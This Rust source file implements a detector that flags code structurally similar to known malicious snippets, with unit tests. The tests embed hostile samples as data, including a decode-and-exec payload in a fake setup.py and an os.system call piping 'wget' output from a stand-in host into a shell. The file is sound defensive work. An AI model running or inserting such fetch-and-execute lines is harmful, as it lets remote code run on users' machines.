//! Malicious pattern detector
//!
//! Parses each file into a syntax tree and reports every forbidden pattern
//! whose tree edit distance to it is below the threshold. The forbidden
//! corpus is obtained on first use and memoized for the session; when it is
//! missing, structural matching is skipped and one session warning explains
//! why. Files whose tree exceeds the builder's size bounds are skipped
//! with a warning.

use crate::ast::{
    compile_builtin, prepare_forbidden_corpus, ForbiddenCorpus, PreparedCorpus, SyntaxTreeBuilder,
    TreeMatcher,
};
use crate::cache::ArtifactCache;
use crate::detectors::base::{Detector, FileScan};
use crate::error::ScanError;
use crate::models::{Finding, ScanWarning, StructuralMatch, WarningKind};
use std::path::{Path, PathBuf};
use std::sync::{Arc, OnceLock};
use tracing::{debug, warn};

const NAME: &str = "malicious_pattern";

/// Where the forbidden corpus comes from
#[derive(Debug, Clone, Default)]
pub struct CorpusSource {
    /// Directory of sample files, one pattern each
    pub samples_dir: Option<PathBuf>,
    /// Precompiled bundle location
    pub bundle: Option<PathBuf>,
    /// Fall back to the samples embedded in the binary when no sample
    /// directory is configured and no bundle exists
    pub builtin: bool,
}

pub struct MaliciousPatternDetector {
    builder: Arc<dyn SyntaxTreeBuilder>,
    matcher: TreeMatcher,
    source: CorpusSource,
    corpus: OnceLock<PreparedCorpus>,
    /// Lowercase extensions without the dot; empty means every file
    extensions: Vec<String>,
}

impl MaliciousPatternDetector {
    pub fn new(builder: Arc<dyn SyntaxTreeBuilder>, matcher: TreeMatcher, source: CorpusSource) -> Self {
        Self {
            builder,
            matcher,
            source,
            corpus: OnceLock::new(),
            extensions: Vec::new(),
        }
    }

    /// Use an already loaded corpus instead of resolving one from disk
    pub fn with_corpus(self, corpus: ForbiddenCorpus) -> Self {
        let prepared = PreparedCorpus {
            corpus: Some(corpus),
            warnings: Vec::new(),
        };
        let cell = OnceLock::new();
        let _ = cell.set(prepared);
        Self { corpus: cell, ..self }
    }

    pub fn with_extensions<I, S>(mut self, extensions: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.extensions = extensions
            .into_iter()
            .map(|e| e.as_ref().trim_start_matches('.').to_ascii_lowercase())
            .filter(|e| !e.is_empty())
            .collect();
        self
    }

    /// The session corpus, resolved on first call
    pub fn corpus(&self) -> Option<&ForbiddenCorpus> {
        self.corpus
            .get_or_init(|| {
                let bundle = self
                    .source
                    .bundle
                    .as_ref()
                    .map(|path| ArtifactCache::<ForbiddenCorpus>::new(path));
                let use_builtin = self.source.builtin
                    && self.source.samples_dir.is_none()
                    && !bundle.as_ref().is_some_and(|b| b.exists());
                if use_builtin {
                    let compiled = compile_builtin(self.builder.as_ref());
                    return PreparedCorpus {
                        corpus: Some(compiled.corpus).filter(|c| !c.is_empty()),
                        warnings: compiled.warnings,
                    };
                }
                prepare_forbidden_corpus(
                    self.source.samples_dir.as_deref(),
                    bundle.as_ref(),
                    self.builder.as_ref(),
                )
            })
            .corpus
            .as_ref()
    }

    fn wants(&self, path: &Path) -> bool {
        if self.extensions.is_empty() {
            return true;
        }
        path.extension()
            .map(|e| e.to_string_lossy().to_ascii_lowercase())
            .is_some_and(|e| self.extensions.iter().any(|x| *x == e))
    }

    fn warning(&self, kind: WarningKind, path: &Path, message: impl Into<String>) -> FileScan {
        let message = message.into();
        warn!("Structural scan skipped {}: {}", path.display(), message);
        FileScan::warning(ScanWarning::new(kind, NAME, message).with_path(path))
    }
}

impl Detector for MaliciousPatternDetector {
    fn name(&self) -> &'static str {
        NAME
    }

    fn description(&self) -> &'static str {
        "Finds code structurally close to known malicious snippets"
    }

    fn scan_file(&self, path: &Path) -> FileScan {
        if !self.wants(path) {
            return FileScan::default();
        }
        let corpus = match self.corpus() {
            Some(corpus) if !corpus.is_empty() => corpus,
            _ => return FileScan::default(),
        };

        let bytes = match std::fs::read(path) {
            Ok(bytes) => bytes,
            Err(e) => return self.warning(WarningKind::Io, path, ScanError::io(path, e).to_string()),
        };
        let source = match std::str::from_utf8(&bytes) {
            Ok(source) => source,
            Err(e) => {
                let err = ScanError::Decode {
                    path: path.to_path_buf(),
                    offset: e.valid_up_to() as u64,
                };
                return self.warning(WarningKind::Decode, path, err.to_string());
            }
        };

        // Size bounds are enforced by the builder while the tree is built
        let parsed = match self.builder.parse_with_signature(source, path) {
            Ok(parsed) => parsed,
            Err(e @ ScanError::TreeTooLarge { .. }) => {
                return self.warning(WarningKind::TreeTooLarge, path, e.to_string())
            }
            Err(e) => return self.warning(WarningKind::Parse, path, e.to_string()),
        };
        let nodes = parsed.signature.len();

        let hits = self
            .matcher
            .find_matches(&parsed.tree, &parsed.signature, corpus.patterns());
        debug!(
            "{}: {} nodes, {} forbidden pattern(s) matched",
            path.display(),
            nodes,
            hits.len()
        );

        let findings = hits
            .into_iter()
            .filter_map(|hit| {
                let pattern = corpus.get(hit.pattern_index)?;
                Some(Finding::Structural(StructuralMatch {
                    file: path.to_path_buf(),
                    pattern_index: hit.pattern_index,
                    pattern_name: pattern.name.clone(),
                    distance: hit.distance,
                }))
            })
            .collect();

        FileScan {
            findings,
            warnings: Vec::new(),
        }
    }

    fn session_warnings(&self) -> Vec<ScanWarning> {
        self.corpus
            .get()
            .map(|prepared| prepared.warnings.clone())
            .unwrap_or_default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ast::{ForbiddenPattern, TreeLimits, TreeSitterBuilder};

    fn python() -> Arc<dyn SyntaxTreeBuilder> {
        Arc::new(TreeSitterBuilder::python())
    }

    fn exec_corpus() -> ForbiddenCorpus {
        let tree = TreeSitterBuilder::python()
            .parse("exec(base64.b64decode(x))\n", Path::new("exec_b64.py"))
            .expect("should parse");
        ForbiddenCorpus::new(vec![ForbiddenPattern::new("exec_b64", tree)])
    }

    fn detector() -> MaliciousPatternDetector {
        MaliciousPatternDetector::new(python(), TreeMatcher::default(), CorpusSource::default())
            .with_corpus(exec_corpus())
    }

    fn write(dir: &Path, name: &str, body: &[u8]) -> PathBuf {
        let path = dir.join(name);
        std::fs::write(&path, body).expect("should write file");
        path
    }

    #[test]
    fn test_embedded_snippet_is_found() {
        let dir = tempfile::tempdir().expect("should create temp dir");
        let path = write(
            dir.path(),
            "setup.py",
            b"import base64\nname = 'pkg'\nexec(base64.b64decode(payload))\nprint(name)\n",
        );

        let scan = detector().scan_file(&path);
        assert!(scan.warnings.is_empty(), "{:?}", scan.warnings);
        assert_eq!(scan.findings.len(), 1);
        match &scan.findings[0] {
            Finding::Structural(m) => {
                assert_eq!(m.pattern_index, 0);
                assert_eq!(m.pattern_name, "exec_b64");
                assert_eq!(m.distance, 0);
            }
            other => panic!("unexpected finding: {other:?}"),
        }
    }

    #[test]
    fn test_unrelated_code_is_clean() {
        let dir = tempfile::tempdir().expect("should create temp dir");
        let path = write(dir.path(), "util.py", b"x = 1\ny = x + 2\n");
        let scan = detector().scan_file(&path);
        assert!(scan.is_empty());
    }

    #[test]
    fn test_parse_error_is_a_warning() {
        let dir = tempfile::tempdir().expect("should create temp dir");
        let path = write(dir.path(), "broken.py", b"def broken(:\n");
        let scan = detector().scan_file(&path);
        assert_eq!(scan.warnings.len(), 1);
        assert_eq!(scan.warnings[0].kind, WarningKind::Parse);
    }

    #[test]
    fn test_oversized_tree_is_skipped() {
        let dir = tempfile::tempdir().expect("should create temp dir");
        let path = write(dir.path(), "big.py", b"exec(base64.b64decode(x))\n");
        let builder = TreeSitterBuilder::python().with_limits(TreeLimits {
            max_nodes: 3,
            max_depth: 0,
        });
        let detector = MaliciousPatternDetector::new(Arc::new(builder), TreeMatcher::default(), CorpusSource::default())
            .with_corpus(exec_corpus());
        let scan = detector.scan_file(&path);
        assert!(scan.findings.is_empty());
        assert_eq!(scan.warnings.len(), 1);
        assert_eq!(scan.warnings[0].kind, WarningKind::TreeTooLarge);
    }

    #[test]
    fn test_deeply_nested_file_is_a_warning() {
        let dir = tempfile::tempdir().expect("should create temp dir");
        let source = format!("x = {}{}\n", "[".repeat(30_000), "]".repeat(30_000));
        let path = write(dir.path(), "nested.py", source.as_bytes());
        let scan = detector().scan_file(&path);
        assert!(scan.findings.is_empty());
        assert_eq!(scan.warnings.len(), 1);
        assert_eq!(scan.warnings[0].kind, WarningKind::TreeTooLarge);
    }

    #[test]
    fn test_extension_filter() {
        let dir = tempfile::tempdir().expect("should create temp dir");
        let path = write(dir.path(), "notes.txt", b"def broken(:\n");
        let scan = detector().with_extensions([".py"]).scan_file(&path);
        assert!(scan.is_empty());
    }

    #[test]
    fn test_builtin_corpus_without_samples_or_bundle() {
        let dir = tempfile::tempdir().expect("should create temp dir");
        let path = write(dir.path(), "run.py", b"import os\nos.system(\"wget -q http://x | sh\")\n");
        let detector = MaliciousPatternDetector::new(
            python(),
            TreeMatcher::default(),
            CorpusSource {
                samples_dir: None,
                bundle: Some(dir.path().join("absent.bin")),
                builtin: true,
            },
        );

        let scan = detector.scan_file(&path);
        assert!(detector.session_warnings().is_empty());
        assert_eq!(detector.corpus().map(|c| c.len()), Some(4));
        let names: Vec<&str> = scan
            .findings
            .iter()
            .filter_map(|f| match f {
                Finding::Structural(m) => Some(m.pattern_name.as_str()),
                _ => None,
            })
            .collect();
        assert!(names.contains(&"os_system_shell"), "{names:?}");
    }

    #[test]
    fn test_configured_samples_dir_disables_builtin() {
        let dir = tempfile::tempdir().expect("should create temp dir");
        let path = write(dir.path(), "a.py", b"exec(x)\n");
        let detector = MaliciousPatternDetector::new(
            python(),
            TreeMatcher::default(),
            CorpusSource {
                samples_dir: Some(dir.path().join("absent")),
                bundle: None,
                builtin: true,
            },
        );
        assert!(detector.scan_file(&path).is_empty());
        assert_eq!(detector.session_warnings()[0].kind, WarningKind::CorpusMissing);
    }

    #[test]
    fn test_missing_corpus_warns_once_per_session() {
        let dir = tempfile::tempdir().expect("should create temp dir");
        let a = write(dir.path(), "a.py", b"exec(x)\n");
        let b = write(dir.path(), "b.py", b"exec(y)\n");
        let detector = MaliciousPatternDetector::new(
            python(),
            TreeMatcher::default(),
            CorpusSource {
                samples_dir: Some(dir.path().join("absent")),
                bundle: Some(dir.path().join("absent.bin")),
                builtin: false,
            },
        );

        assert!(detector.scan_file(&a).is_empty());
        assert!(detector.scan_file(&b).is_empty());
        let warnings = detector.session_warnings();
        assert_eq!(warnings.len(), 1);
        assert_eq!(warnings[0].kind, WarningKind::CorpusMissing);
    }
}
